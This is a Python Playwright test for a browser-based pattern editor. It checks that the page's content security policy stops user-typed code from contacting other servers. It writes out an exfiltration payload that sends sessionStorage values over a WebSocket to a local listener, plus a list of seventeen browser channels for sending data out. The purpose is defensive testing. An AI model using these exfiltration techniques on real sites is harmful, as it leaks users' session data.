"""What a pattern tries to tell another server: the page's policy holds it, and the page's own sockets work."""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.async_api import Browser

    from tests.browser.conftest import Bridge

SECRET = "stolen"
# Navigating the page and WebRTC are not in here: no policy of today's browsers holds them (docs/security.md).
WAYS = """
const add = (tag, properties) => document.head.append(Object.assign(document.createElement(tag), properties));
const inWorker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
const ways = {
  fetch: () => fetch(`${http}/fetch`, { mode: 'no-cors' }),
  beacon: () => navigator.sendBeacon(`${http}/beacon`, 'stolen'),
  events: () => new EventSource(`${http}/events`),
  socketToAName: () => new WebSocket(`${ws.replace('127.0.0.1', 'localhost')}/name`),
  image: () => { new Image().src = `${http}/image`; },
  audio: () => new Audio(`${http}/audio`).load(),
  style: () => add('style', { textContent: `body { background: url(${http}/style) }` }),
  font: () => new FontFace('x', `url(${http}/font)`).load(),
  script: () => add('script', { src: `${http}/script` }),
  module: () => import(`${http}/module.js`),
  worklet: () => new AudioContext().audioWorklet.addModule(`${http}/worklet`),
  frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: `${http}/frame` })),
  written: () => document.body.append(
    Object.assign(document.createElement('iframe'), { srcdoc: `<img src="${http}/written">` })),
  form: () => {
    const form = Object.assign(document.createElement('form'), { action: `${http}/form`, target: 'elsewhere' });
    document.body.append(form);
    form.submit();
  },
  prefetch: () => add('link', { rel: 'prefetch', href: `${http}/prefetch` }),
  preconnect: () => add('link', { rel: 'preconnect', href: `${http}/preconnect` }),
  worker: () => inWorker(`fetch("${http}/worker"); new WebSocket("${ws}/worker")`),
};
"""


async def test_a_pattern_reaches_no_server_but_its_own(tone_bridge: Bridge, chromium: Browser) -> None:
    heard: list[bytes] = []

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(100))
        writer.close()

    listener = await asyncio.start_server(listen, "127.0.0.1", 0)
    there = f"127.0.0.1:{listener.sockets[0].getsockname()[1]}"
    context = await chromium.new_context()
    try:
        page = await context.new_page()
        await page.goto(tone_bridge.url)
        await page.evaluate("sampleBridge.ready")
        # As it was found: typed into the editor, with whatever the page keeps.
        pattern = f"new WebSocket('ws://{there}/{SECRET}' + Object.values(sessionStorage).join('_'))\n$: s(\"tone\")"
        await page.evaluate("code => sampleBridge.evaluate(code)", pattern)
        tried = await page.evaluate(
            f"""async (there) => {{
                const http = `http://${{there}}`, ws = `ws://${{there}}`;
                {WAYS}
                for (const way of Object.values(ways)) {{
                    try {{ Promise.resolve(way()).catch(() => undefined); }} catch {{ /* refused at once */ }}
                }}
                await new Promise((resolve) => setTimeout(resolve, 700));
                return Object.keys(ways).length;
            }}""",
            there,
        )
        assert tried >= 17
        assert heard == []
        # The page's own sockets are of another scheme than the page, and work: Socket.IO, and a stream.
        assert await page.evaluate("sampleBridge.state") == "online"
        opened = """() => new Promise((resolve) => {
            const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/ws/stream/lab`, ['sample-bridge']);
            socket.onopen = () => { socket.close(); resolve('open'); };
            socket.onerror = () => resolve('refused');
        })"""
        assert await page.evaluate(opened) == "open"
        # The listener does hear what the policy does not hold: without this line the test could pass for nothing.
        await asyncio.gather(page.wait_for_event("popup"), page.evaluate(f"void window.open('http://{there}/seen')"))
        async with asyncio.timeout(10):
            while not heard:
                await asyncio.sleep(0.02)
        assert heard[0].startswith(b"GET /seen")
    finally:
        await context.close()
        listener.close()
